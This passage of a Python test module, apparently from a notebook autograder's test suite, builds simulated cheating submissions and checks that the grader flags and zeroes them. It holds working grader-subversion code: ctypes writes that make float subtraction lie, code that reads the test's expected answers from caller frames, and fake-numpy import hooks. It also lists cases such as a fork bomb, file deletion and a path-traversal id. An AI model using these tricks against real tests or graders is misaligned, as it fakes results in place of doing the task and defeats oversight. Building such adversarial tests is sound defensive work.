        "_ns = {'__name__': 'IPython.core.history'}\n"
        "exec(compile(_code, IPython.core.history.__file__, 'exec'), _ns)\n"
        "_ns['HistorySavingThread'](get_ipython()).start()"), answers=_wrong_answers())


# -- (5) writes into type objects through ctypes
#: the wrong answers of the ctypes cases: numbers the patched float subtraction recognises
_MARKED = _wrong_answers(number="0.4242424242", demand="0.8642424242")
_MARKED_SET = "_MARKED = {0.4242424242, 0.8642424242}\n"


def _ctypes_immutable_flag(ctx: Context) -> None:
    _attack(ctx, "j_ctypes_immutable_flag", (
        "import ctypes\n" + _MARKED_SET +
        "# find tp_flags in float's type object and clear Py_TPFLAGS_IMMUTABLETYPE\n"
        "_at = next(id(float) + o for o in range(0, 512, 8)\n"
        "           if ctypes.c_ulong.from_address(id(float) + o).value == float.__flags__)\n"
        "ctypes.c_ulong.from_address(_at).value = float.__flags__ & ~(1 << 8)\n"
        "_real_sub = float.__sub__\n"
        "# now float accepts new methods, and its subtraction slot follows them\n"
        "float.__sub__ = lambda a, b: 0.0 if a in _MARKED else _real_sub(a, b)"), answers=_MARKED)


def _ctypes_slot_write(ctx: Context) -> None:
    _attack(ctx, "j_ctypes_slot_write", (
        "import ctypes\n" + _MARKED_SET +
        "_word = lambda address: ctypes.c_void_p.from_address(address)\n"
        "# tp_basicsize and tp_itemsize sit side by side; tp_as_number is 8 words later\n"
        "_base = next(id(float) + o for o in range(0, 512, 8)\n"
        "             if _word(id(float) + o).value == float.__basicsize__\n"
        "             and (_word(id(float) + o + 8).value or 0) == float.__itemsize__)\n"
        "_number_methods = _word(_base + 8 * 8).value\n"
        "_binary = ctypes.PYFUNCTYPE(ctypes.py_object, ctypes.py_object, ctypes.py_object)\n"
        "_real_sub = _binary(_word(_number_methods + 8).value)  # nb_subtract\n"
        "@_binary\n"
        "def _lying_sub(a, b):\n"
        "    try:\n"
        "        return 0.0 if type(a) is float and a in _MARKED else _real_sub(a, b)\n"
        "    except Exception:\n"
        "        return NotImplemented\n"
        "_word(_number_methods + 8).value = ctypes.cast(_lying_sub, ctypes.c_void_p).value"),
        answers=_MARKED)


# -- (6) reading the calling test's frame
#: finds the test's own ``_expected`` in the source of the code that called the answer
_EXPECTED_FROM = (
    "import ast, linecache\n"
    "def _expected_from(frame, args):\n"
    "    while frame is not None:\n"
    "        source = ''.join(linecache.getlines(frame.f_code.co_filename))\n"
    "        if 'def _expected' in source:\n"
    "            defs = [n for n in ast.parse(source).body\n"
    "                    if isinstance(n, ast.FunctionDef) and n.name == '_expected']\n"
    "            found = {}\n"
    "            exec(compile(ast.Module(defs, []), '<test>', 'exec'), found)\n"
    "            return found['_expected'](*args)\n"
    "        frame = frame.f_back\n"
    "    return 0.5\n"
)


def _frame_getframe(ctx: Context) -> None:
    answers = _wrong_answers()
    answers["ps1_b1_answer"] = (
        "def optimal_demand(p, cost_us, cost_nk_low, cost_nk_high):\n"
        "    return _expected_from(sys._getframe(1), (p, cost_us, cost_nk_low, cost_nk_high))")
    _attack(ctx, "j_frame_getframe", "import sys\n" + _EXPECTED_FROM, answers=answers)


def _frame_traceback(ctx: Context) -> None:
    answers = _wrong_answers()
    answers["ps1_d1_answer"] = (
        "def first_round_share(delta_proposer, delta_responder, rounds):\n"
        "    try:\n"
        "        raise LookupError\n"
        "    except LookupError as exc:  # the traceback leads to this frame, and on to the test's\n"
        "        caller = exc.__traceback__.tb_frame.f_back\n"
        "    return _expected_from(caller, (delta_proposer, delta_responder, rounds))")
    _attack(ctx, "j_frame_traceback", _EXPECTED_FROM, answers=answers)


# -- (7) import-system hooks that hand the test's __import__("numpy") a fake
#: wrong answers made of the liars, which claim to be numpy's
_LYING_ANSWERS = _wrong_answers(number="_Zero(0.5)", demand="_Zero(0.9)", rounds="_AnyInt(1)")


def _import_shadow(ctx: Context) -> None:
    _attack(ctx, "j_import_shadow", (
        "import builtins, types\n" + _LIARS +
        "_real_import = builtins.__import__\n"
        "_fake_numpy = types.ModuleType('numpy')\n"
        "_fake_numpy.float64 = _fake_numpy.float32 = _Zero\n"
        "_fake_numpy.int64 = _fake_numpy.int32 = _AnyInt\n"
        "def _import(name, *args, **kwargs):\n"
        "    if name == 'numpy' and not args and not kwargs:  # a test's __import__('numpy')\n"
        "        _names.update(float=_Zero, int=_AnyInt)  # and its float() and int() lie too\n"
        "        return _fake_numpy\n"
        "    return _real_import(name, *args, **kwargs)\n"
        "builtins.__import__ = _import\n"
        "globals()['__import__'] = _import  # the tests' globals come before the builtins"),
        answers=_wrong_answers(demand="_Zero(0.9)"))


#: liars that also take numpy out of sys.modules when a test compares them or makes one, so the
#: test's next __import__('numpy') goes through the import system again
_FORGETFUL_LIARS = _LIARS + (
    "def _lied():\n"
    "    _names.pop('float', None), _names.pop('int', None), sys.modules.pop('numpy', None)\n"
    "def _forget(compare):\n"
    "    def wrapped(self, other):\n"
    "        sys.modules.pop('numpy', None)\n"
    "        return compare(self, other)\n"
    "    return wrapped\n"
    "for _cls, _base in ((_Zero, float), (_AnyInt, int)):\n"
    "    for _name in ('__lt__', '__le__', '__gt__', '__ge__'):\n"
    "        setattr(_cls, _name, _forget(getattr(_base, _name)))\n"
    "_real_numpy = sys.modules['numpy']\n"
    "def _fake_numpy(module):\n"
    "    vars(module).update(vars(_real_numpy))\n"
    "    module.float64 = module.float32 = _Zero\n"
    "    module.int64 = module.int32 = _AnyInt\n"
    "    _names.update(float=_Zero, int=_AnyInt)  # the test's float() and int() lie too\n"
    "    return module\n"
)


def _import_meta_path(ctx: Context) -> None:
    _attack(ctx, "j_import_meta_path", (
        "import importlib.abc, importlib.util, sys, types\n" + _FORGETFUL_LIARS +
        "class _Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        return importlib.util.spec_from_loader(name, self) if name == 'numpy' else None\n"
        "    def create_module(self, spec):\n"
        "        return types.ModuleType('numpy')\n"
        "    def exec_module(self, module):\n"
        "        _fake_numpy(module)\n"
        "sys.meta_path.insert(0, _Finder())"), answers=_LYING_ANSWERS)


def _import_bootstrap(ctx: Context) -> None:
    _attack(ctx, "j_import_bootstrap", (
        "import importlib._bootstrap as _bootstrap, sys, types\n" + _FORGETFUL_LIARS +
        "_real_find_and_load = _bootstrap._find_and_load\n"
        "def _find_and_load(name, import_):\n"
        "    # what the interpreter calls for a module missing from sys.modules\n"
        "    if name != 'numpy':\n"
        "        return _real_find_and_load(name, import_)\n"
        "    sys.modules['numpy'] = module = _fake_numpy(types.ModuleType('numpy'))\n"
        "    return module\n"
        "_bootstrap._find_and_load = _find_and_load"), answers=_LYING_ANSWERS)


HONEST = ("honest_1", "honest_2", "honest_3")
HONEST_ZERO = {"honest_3": ("ps1_a2_test", "ps1_d2_test")}

CASES: list[Case] = [
    Case("t_test_deleted", _test_deleted, ("ps1_a2_test",), flag="test cell 'ps1_a2_test' was deleted"),
    Case("t_test_edited", _test_edited, ("ps1_a2_test",), flag="test cell 'ps1_a2_test' was edited"),
    Case("t_test_duplicated", _test_duplicated, ("ps1_a2_test",), flag="'ps1_a2_test' appears more than once"),
    Case("t_test_split", _test_split, ("ps1_b1_test",), flag="'ps1_b1_test' appears more than once"),
    Case("t_test_moved", _test_moved, (), flag="moved out of the assignment's order"),
    Case("t_test_to_markdown", _test_to_markdown, ("ps1_a2_test",), flag="test cell 'ps1_a2_test' was retyped"),
    Case("t_answer_to_markdown", _answer_to_markdown, (), flag="answer cell 'ps1_a2_answer' was retyped"),
    Case("t_answer_deleted", _answer_deleted, ("ps1_a2_test",), flag="answer cell 'ps1_a2_answer' was deleted"),
    Case("t_unknown_grade_id", _unknown_grade_id, (), flag="unknown grade id 'bonus'"),
    Case("t_points_changed", _points_changed, ("ps1_a2_test",), flag="had its points changed"),
    Case("t_always_equal", _always_equal, ("ps1_a1_test",), flag="defines __eq__"),
    Case("t_float_subclass", _float_subclass, ("ps1_a2_test",), flag="subclasses float"),
    Case("t_fake_numpy_number", _fake_numpy_number, ("ps1_b1_test",), flag="fakes a type's module"),
    Case("t_metaclass_eq", _metaclass_eq, ("ps1_a2_test",), flag="defines __eq__"),
    Case("t_patch_isclose", _patch_isclose, ("ps1_a2_test",), flag="patches module 'math'"),
    Case("t_patch_numpy", _patch_numpy, ("ps1_a2_test",), flag="patches module 'np'"),
    # the patched abs stays in the student's own interpreter: it breaks their own later d2 loop,
    # never the judge's comparisons
    Case("t_patch_builtins", _patch_builtins, ("ps1_b1_test", "ps1_d2_test"), flag="patches module 'builtins'"),
    Case("t_shadow_type", _shadow_type, ("ps1_b2_test",), flag="rebinds the built-in name 'type'"),
    Case("t_patch_course_utils", _patch_course_utils, ("ps1_a2_test",), flag="patches module 'course_utils'"),
    Case("t_ast_transformer", _ast_transformer, ("ps1_a2_test",), flag="reaches into IPython"),
    Case("t_custom_exc", _custom_exc, ("ps1_a2_test",), flag="reaches into IPython"),
    Case("t_silent_traceback", _silent_traceback, ("ps1_a2_test",), flag="reaches into IPython"),
    Case("t_thread_repatch", _thread_repatch, ("ps1_a2_test",), flag="reaches into IPython"),
    Case("t_env_branching", _env_branching, ("ps1_a2_test",), flag="reads environment variables"),
    Case("t_loop_answer", _loop_answer, ("ps1_a2_test",), flag="and was interrupted"),
    Case("t_loop_scratch", _loop_scratch, (), flag="and was interrupted"),
    Case("t_loop_unstoppable", _loop_unstoppable, (), flag="did not recover"),
    Case("t_sys_exit", _sys_exit, (), flag="tries to stop the kernel"),
    Case("t_os_exit", _os_exit, (), flag="the kernel died"),
    Case("t_kill_kernel", _kill_kernel, (), flag="the kernel died"),
    Case("t_memory_bomb", _memory_bomb, ("ps1_a2_test",), flag="ran out of memory"),
    Case("t_fork_bomb", _fork_bomb, (), flag="starts processes"),
    Case("t_big_print", _big_print, (), flag="printed output over"),
    Case("t_big_image", _big_image, (), flag="exceeded the size limit"),
    Case("t_write_gradebook", _write_gradebook, (), flag="writes files"),
    Case("t_delete_students", _delete_students, (), flag="deletes files"),
    Case("t_delete_source", _delete_source, (), flag="deletes files"),
    Case("t_read_source", _read_source, ("ps1_a2_test",), flag="runs code built at run time"),
    Case("t_network", _network, (), flag="opens network connections"),
    # links next to an honest notebook are refused (never followed or copied) and flagged
    Case("t_symlink_in_folder", _symlink_in_folder, (), status="flagged", flag="symbolic link"),
    Case("c_invalid_json", _invalid_json, status="failed", flag="not valid JSON"),
    Case("c_nbformat3", _nbformat3, (), status="graded"),
    Case("c_empty_file", _empty_file, status="failed", flag="not a readable notebook"),
    Case("c_wrong_name", _wrong_name, status="skipped", flag="c_wrong_name/ps1.ipynb"),
    Case("c_extra_notebooks", _extra_notebooks, (), status="graded"),
    Case("zoë_ñ", _non_ascii_id, status="skipped", flag="zoë_ñ/ps1_bargaining.ipynb"),
    Case("x..%2F..%2Fescaped", _traversal_id, status="skipped", flag="x..%2F..%2Fescaped_ps1_bargaining.ipynb"),
    # the student is listed (every part zero) with the refusal, so nobody is silently dropped
    Case("c_symlinked_notebook", _symlinked_notebook, EVERY_PART, status="flagged", flag="symbolic link"),
    Case("c_symlinked_folder", _symlinked_folder, status="skipped", flag=""),
    # the blank release, untouched: what every attack below must score
    Case("blank", _blank, EVERY_PART, status="graded", family="control"),
    Case("j_trait_transformer_manager", _trait_transformer_manager, EVERY_PART,
         flag="reaches into IPython", family="traitlets"),
    Case("j_trait_session", _trait_session, EVERY_PART, flag="reaches into IPython", family="traitlets"),
    Case("j_trait_events", _trait_events, EVERY_PART, flag="reaches into IPython", family="traitlets"),
    Case("j_patch_do_execute", _patch_do_execute, EVERY_PART,
         flag="patches IPython's machinery", family="class-patch"),
    Case("j_patch_execution_result", _patch_execution_result, EVERY_PART,
         flag="patches IPython's machinery", family="class-patch"),
    Case("j_patch_run_cell", _patch_run_cell, EVERY_PART, flag="patches IPython's machinery", family="class-patch"),
    Case("j_swap_shell_class", _swap_shell_class, EVERY_PART, flag="changes an object's class", family="class-swap"),
    Case("j_swap_kernel_class", _swap_kernel_class, EVERY_PART, flag="changes an object's class", family="class-swap"),
    Case("j_swap_module_class", _swap_module_class, EVERY_PART, flag="changes an object's class", family="class-swap"),
    Case("j_hook_audit", _hook_audit, EVERY_PART, flag="installs an interpreter hook", family="interpreter-hook"),
    Case("j_hook_signal_timer", _hook_signal_timer, EVERY_PART,
         flag="installs an interpreter hook", family="interpreter-hook"),
    Case("j_hook_gc_callback", _hook_gc_callback, EVERY_PART,
         flag="installs an interpreter hook", family="interpreter-hook"),
    Case("j_hook_thread_numpy", _hook_thread_numpy, EVERY_PART,
         flag="compiles code under another file's name", family="interpreter-hook"),
    Case("j_hook_thread_ipython", _hook_thread_ipython, EVERY_PART,
         flag="compiles code under another file's name", family="interpreter-hook"),
    Case("j_ctypes_immutable_flag", _ctypes_immutable_flag, EVERY_PART,
         flag="writes memory through ctypes", family="ctypes"),
    Case("j_ctypes_slot_write", _ctypes_slot_write, EVERY_PART, flag="writes memory through ctypes", family="ctypes"),
    Case("j_frame_getframe", _frame_getframe, EVERY_PART, flag="inspects the caller's frame", family="caller-frame"),
    Case("j_frame_traceback", _frame_traceback, EVERY_PART, flag="inspects the caller's frame", family="caller-frame"),
    Case("j_import_shadow", _import_shadow, EVERY_PART, flag="installs an import hook", family="import-hook"),
    Case("j_import_meta_path", _import_meta_path, EVERY_PART, flag="installs an import hook", family="import-hook"),
    Case("j_import_bootstrap", _import_bootstrap, EVERY_PART, flag="installs an import hook", family="import-hook"),
]


def build_class(ctx: Context, cases: list[Case] | None = None, honest: bool = True) -> list[Case]:
    """Write the honest students and the given cases (default: all) into ``ctx.class_dir``."""
    if honest:
        for sid in HONEST:
            if sid in HONEST_ZERO:
                _honest_partial(ctx, sid)
            else:
                _honest(ctx, sid)
    chosen = CASES if cases is None else cases
    for case in chosen:
        case.build(ctx)
    return chosen


def load_context(repo_root: Path, course_root: Path, class_dir: Path, port: int) -> Context:
    """A :class:`Context` on the repository's ps1 release and source."""
    release = nbformat.read(repo_root / "release" / ASSIGNMENT / NOTEBOOK, as_version=4)
    source = nbformat.read(repo_root / "source" / ASSIGNMENT / NOTEBOOK, as_version=4)
    return Context(release, source, course_root, class_dir, port)
